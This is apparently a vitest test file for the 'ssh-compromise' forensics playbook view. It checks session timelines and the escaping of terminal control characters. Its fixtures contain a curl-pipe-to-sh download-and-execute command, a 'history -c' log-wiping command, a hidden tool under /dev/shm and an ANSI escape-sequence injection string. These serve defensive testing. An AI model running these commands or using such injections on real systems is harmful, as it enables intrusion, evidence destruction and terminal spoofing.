import { describe, expect, it } from 'vitest';
import type { ChangedFile, HistoryCommand, HistorySessionRef } from '../../src/model/activity.js';
import type { KnownFacts } from '../../src/model/facts.js';
import type { DraftFinding } from '../../src/model/finding.js';
import type { SessionRecord } from '../../src/model/logins.js';
import { loadPlaybook } from '../../src/playbooks/loader.js';
import { stepView } from '../../src/runner/views.js';

const ESC = '\x1b]0;pwned\x07\x1b[2J';
const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

const s1: SessionRecord = { user: 'deploy', line: 'pts/0', host: '127.0.0.3', addr: '127.0.0.3', pid: 100, login: '2024-03-01T22:26:09.000Z', logout: '2024-03-01T22:40:12.000Z', end: 'logout', source: 'wtmp', file: '/var/log/wtmp' };
const s2: SessionRecord = { ...s1, user: 'alice', line: 'pts/1', host: '198.51.100.7', addr: '198.51.100.7', login: '2024-03-01T23:00:00.000Z', logout: '2024-03-01T23:00:30.000Z' };
const ref: HistorySessionRef = { source: 'wtmp', user: 'deploy', login: s1.login, logout: s1.logout, address: '127.0.0.3', line: 'pts/0' };

function cmd(text: string, line: number, time: string | null, session: HistorySessionRef | null): HistoryCommand {
  return { file: '/home/deploy/.bash_history', line, user: 'deploy', format: 'bash', kind: 'command', text, time, timeSource: time ? 'stamp' : 'none', session, analysis: null, toolHits: [], signals: [] };
}

const kit: ChangedFile = { path: `/dev/shm/.x/${ESC}pscan2`, type: 'file', linkTarget: null, mode: 0o755, uid: 1001, gid: 1001, size: 10, ino: '1', atime: '2024-03-01T22:28:00.000Z', mtime: '2024-03-01T22:28:00.000Z', ctime: '2024-03-01T22:28:00.000Z', btime: '2024-03-01T22:28:00.000Z', inWindow: ['mtime'], executable: 'elf', sha256: null, md5: null, writableDir: '/dev/shm', hiddenDir: '.x', area: '/dev/shm' };

const facts: KnownFacts = {
  window: { start: '2024-03-01T20:00:00.000Z', end: '2024-03-02T00:00:00.000Z', source: 'since', reason: '' },
  sessions: [s1, s2],
  accounts: [{ user: 'deploy', uid: 1001, home: '/home/deploy' }, { user: 'alice', uid: 1002, home: '/home/alice' }] as unknown as KnownFacts['accounts'],
  historyCommands: [cmd(`curl -fsSL http://127.0.0.1:9/x.sh | sh ${ESC}`, 4, '2024-03-01T22:27:00.000Z', ref), cmd('history -c', 6, null, null)],
  changedFiles: [kit],
};

const earlier: DraftFinding = { rule: 'auth.login-after-failures', severity: 'medium', title: `Login after failures from 127.0.0.3 ${ESC}`, detail: 'd', mitre: [], evidence: [], subject: { ip: '127.0.0.3', user: 'deploy' } };
const mine: DraftFinding = { rule: 'activity.download-execute', severity: 'high', title: 'Download and run: curl … | sh', detail: 'd', mitre: [], evidence: [], subject: { path: '/home/deploy/.bash_history', line: 4, user: 'deploy', session: ref } };

describe('the guided step "What did they do after logging in?"', () => {
  it('shows each session with its commands, files and findings (of this step and before); an empty session is one line; box text sanitised', async () => {
    const pb = await loadPlaybook('ssh-compromise');
    const step = pb.data.steps.find((s) => s.id === 'activity')!;
    const out = stepView(step, facts, [mine], [earlier, mine]);
    expect(out).not.toMatch(CONTROL);
    const lines = out.split('\n');
    expect(lines[0]).toBe('What was done in each ssh session since 2024-03-01 20:00:00 UTC:');
    expect(lines[1]).toBe('alice from 198.51.100.7, 2024-03-01 23:00:00–23:00:30 UTC (30 s): nothing recorded in it');
    expect(lines[2]).toBe('deploy from 127.0.0.3, 2024-03-01 22:26:09–22:40:12 UTC (14 min)  [pts/0 · wtmp]');
    expect(out).toMatch(/^ {4}22:27:00 +curl -fsSL http:\/\/127\.0\.0\.1:9\/x\.sh \| sh \\x1b\]0;pwned\\x07\\x1b\[2J +\/home\/deploy\/\.bash_history:4$/m);
    expect(out).toMatch(/^ {4}22:28:00 +created \(elf\) +\/dev\/shm\/\.x\/\\x1b\]0;pwned\\x07\\x1b\[2Jpscan2$/m);
    expect(out).toContain('    HIGH          Download and run: curl … | sh');
    expect(out).toContain('    MEDIUM        Login after failures from 127.0.0.3 \\x1b]0;pwned');
    expect(out).toMatch(/deploy: not tied to a session \(no timestamps\):\n[\s\S]*history -c +\/home\/deploy\/\.bash_history:6/);
  });

  it('shows nothing when the step read no history and no login', async () => {
    const pb = await loadPlaybook('ssh-compromise');
    const step = pb.data.steps.find((s) => s.id === 'activity')!;
    expect(stepView(step, { changedFiles: [kit] }, [])).toBe('');
  });
});
